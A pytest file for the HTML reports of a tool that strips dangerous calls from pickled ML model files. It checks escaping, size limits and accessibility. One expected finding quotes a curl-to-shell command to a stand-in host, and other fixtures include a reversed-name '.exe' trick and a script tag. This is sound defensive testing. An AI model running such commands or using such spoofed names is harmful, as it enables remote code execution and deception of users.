"""The page of a report: complete, bounded, and deaf to whatever names say."""

from __future__ import annotations

import itertools
import re

import pytest

from safemodel.reports import (
    DisarmReport,
    FileDigests,
    Finding,
    KeptTensor,
    LeftBehind,
    Severity,
)
from tests.unit.disarm.helpers_report import HOSTILE, folder, hostile, made_up
from tests.unit.helpers_page import Page

POLICY = (
    "default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'"
)
HARMLESS = set(
    """
    html head meta title style body header main section nav p h1 h2 h3 div dl dt dd ul
    li a span bdi br code table caption thead tbody tr th td
    """.split()
)
ATTRIBUTES = set(
    """
    lang charset http-equiv content name class id href role scope data-label aria-label
    aria-labelledby
    """.split()
)


def visible(name: str) -> str:
    """Return how a name of a file is written, white space aside."""
    hidden = re.compile("[^ -~]")
    return hidden.sub(lambda found: ascii(found[0])[1:-1], name)


@pytest.mark.parametrize("report", [made_up(), hostile(), folder()])
def test_a_page_runs_nothing_and_asks_for_nothing(report):
    """Only tags and attributes that do nothing; the policy forbids the rest."""
    text = report.to_html()
    page = Page(text)
    assert set(page.tags) <= HARMLESS
    assert {name for _, name, _ in page.attributes} <= ATTRIBUTES
    assert text.index(POLICY) < text.index("<title>") < text.index("<style>")
    assert all(re.fullmatch(r"#[a-z-]+", target) for target in page.of("href"))
    assert not re.search(r"url\(|@import|expression", text.split("</style>")[0])
    assert text.startswith("<!doctype html>")


def test_hostile_names_are_text():
    """In every place: as they are, and what cannot be seen as an escape."""
    report = hostile()
    text = report.to_html()
    page = Page(text)
    assert all(one.isprintable() or one == "\n" for one in text)
    assert "\u3164" not in text
    assert "\u0335" not in text
    names = visible(report.path)
    assert page.title == f"Disarm report: {names}"[: len(page.title)]
    assert len(page.title) > 300
    for name in HOSTILE:
        assert page.text.count(visible(name)) >= 2 * 15, name
    assert '<span class="escape">\\u202e</span>gpj.exe' in text
    assert text.count("<bdi>") == text.count("</bdi>") > 2 * 30


def test_the_check_of_a_page_sees_what_is_hostile():
    """It can fail: an element, an attribute, an end without a start."""
    page = Page("<p onclick='x'><script>1</script></p>")
    assert "script" in set(page.tags) - HARMLESS
    assert page.of("onclick") == ["x"]
    with pytest.raises((AssertionError, IndexError)):
        Page("<p></b></p>")


def test_a_page_says_everything_a_report_has():
    """In the order of importance: what was removed before what was kept."""
    report = made_up(seconds=1234.5)
    page = Page(report.to_html())
    expected = [
        "Disarm report, safemodel 0.1.0",
        "detector.pt",
        (
            "1 call and 1 name removed; 18 tensors kept bit for bit; 2 things left"
            " behind (1.2 KiB); 3 values became plain data."
        ),
        "hidden in their low bits is still there",
        "Input downloads/detector.pt torch zip archive, 96.0 KiB (98,304 bytes)",
        "Output clean/detector.pt torch zip archive, 64.0 KiB (65,543 bytes)",
        "Removed (2) Calls and names",
        (
            "danger would call os.system('curl example.org/x | sh') REDUCE"
            " archive/data.pkl 187"
        ),
        "info names yolo.Model GLOBAL archive/data.pkl 12,345",
        "Anomalies of the container (1)",
        (
            "warning two records of one name: readers differ in which one they take"
            " archive/data.pkl –"
        ),
        "Notes (1)",
        "info a note a/b –",
        "Left behind (2)",
        "record archive/.cache/run.sh 1,204 nothing in the file refers to it",
        "slack – 31 outside of any record",
        "Opaque, kept as data (1)",
        "yolo.Model model",
        "Became plain data (2)",
        "2 set",
        "Tensors (18)",
        "model.layers.0.weight float32 64 × 3 × 3 × 3 0",
        "model.layers.0.n float32 scalar 0",
        "Input SHA-256 " + "a1" * 32,
        "Input BLAKE3 " + "b2" * 32,
        "Output SHA-256 " + "c3" * 32,
        "Output BLAKE3 " + "d4" * 32,
        "safemodel 0.1.0 Policy opaque, allowlist of 262 names 0123456789ab",
        "1,234.500 s",
    ]
    at = 0
    spaced = " ".join(" ".join(page.texts).split())
    for piece in expected:
        found = spaced.find(piece, at)
        assert found >= at, piece
        at = found


def test_a_page_says_what_was_not_found():
    """Nothing is left to guessing; and with no tensors there is nothing to scrub."""
    nothing = made_up(
        path="", removed=(), anomalies=(), notes=(), left_behind=(), opaque=(),
        changed={}, tensors=(),
    )  # fmt: skip
    page = Page(nothing.to_html())
    assert "No call and no name to remove; 0 tensors kept." in page.text
    assert "No call and no name to remove was found." in page.text
    assert page.text.count("There was none.") == 3
    assert "low bits is still there" not in page.text
    assert "Notes" not in page.text
    assert "a buffer" in page.text
    assert "table" not in page.tags
    assert page.title == "Disarm report: clean/detector.pt"


def test_scrubbing_is_told_as_it_was():
    """Where bits were overwritten, the page does not say that all were kept."""
    kept = KeptTensor(name="w", dtype="float32", shape=(2,), scrubbed_bits=12)
    other = KeptTensor(name="n", dtype="int64", shape=(2,))
    page = Page(made_up(tensors=(kept,)).to_html())
    assert "1 tensor kept, with 12 low bits overwritten" in page.text
    assert "bit for bit" not in page.text
    assert "What is hidden elsewhere in them is still there." in page.text
    mixed = made_up(tensors=(kept, other, KeptTensor(
        name="d", dtype="float64", shape=(), scrubbed_bits=41)))  # fmt: skip
    page = Page(mixed.to_html())
    assert (
        "3 tensors kept: 2 with 12 to 41 low bits overwritten, 1 bit for bit"
        in page.text
    )


def test_a_folder_has_a_summary_and_a_section_a_file():
    """Parts of parts included; what the folder's own lists lack is not said of all."""
    page = Page(folder().to_html())
    assert page.of("id").count("part-5") == 1
    assert "part-6" not in page.of("id")
    assert "Files (5)" in page.text
    assert "was found" not in page.text
    assert "modeling_x.py" in page.text
    assert "A folder has none of its own" in page.text
    spaced = " ".join(" ".join(page.texts).split())
    assert (
        "danger out/pytorch_model.bin 1 call and 1 name 18 tensors bit for bit"
        " 2 things (1.2 KiB) 65,543" in spaced
    )
    assert "none out/a.safetensors nothing 18 tensors bit for bit nothing" in spaced
    assert "info out/agent.zip 2 names 36 tensors bit for bit" in spaced


@pytest.mark.parametrize("report", [made_up(), folder()])
def test_a_page_can_be_read_without_seeing_it(report):
    """One title, headings in order, captions, scopes, links that lead somewhere."""
    page = Page(report.to_html())
    assert page.of("lang") == ["en"]
    levels = [int(tag[1]) for tag in page.tags if tag in ("h1", "h2", "h3")]
    assert levels.count(1) == 1
    assert levels[0] == 1
    steps = itertools.pairwise(levels)
    assert all(after <= before + 1 for before, after in steps)
    assert page.tags.count("caption") == page.tags.count("table") > 3
    assert page.of("scope") == ["col"] * page.tags.count("th")
    ids = page.of("id")
    assert len(ids) == len(set(ids))
    assert {target[1:] for target in page.of("href")} <= set(ids)
    assert set(page.of("aria-labelledby")) <= set(ids)


def test_a_page_is_bounded():
    """A million tensors and names of a megabyte; it says how much it leaves out."""
    tensor = KeptTensor(name="w", dtype="float32", shape=(2,))
    text = made_up(tensors=(tensor,) * 1_000_000).to_html()
    assert len(text) < 100_000
    assert "and 999,800 more; the JSON report has all" in text
    assert "1,000,000 tensors kept" in text
    long = "\u202ea" * 500_000
    call = Finding(
        severity=Severity.DANGER, code="x", message=long, name=long, arguments=long,
        opcode=long, record=long,
    )  # fmt: skip
    left = LeftBehind(kind=long, name=long, size=1, why=long)
    worst = made_up(
        path=long, out=long, removed=(call,) * 300, left_behind=(left,) * 300,
        changed={f"{at}{long[:999]}": 1 for at in range(300)},
    )  # fmt: skip
    text = worst.to_html()
    assert len(text) < 10_000_000
    assert "1,000,000 characters" in text
    assert text.count("and 100 more; the JSON report has all") == 3


def test_a_page_of_many_files_is_bounded():
    """Two hundred in the summary, fifty in detail, twenty rows a list."""
    part = made_up()
    whole = DisarmReport(
        **{**vars(part), "parts": (part,) * 1_000, "source": FileDigests(size=5)}
    )
    text = whole.to_html()
    page = Page(text)
    assert len(text) < 2_000_000
    assert "Files (1,000)" in page.text
    assert "and 800 more; the JSON report has all" in page.text
    assert "and 950 more files; the JSON report has all" in page.text
    assert [one for one in page.of("id") if one.startswith("part-")][-1] == "part-50"
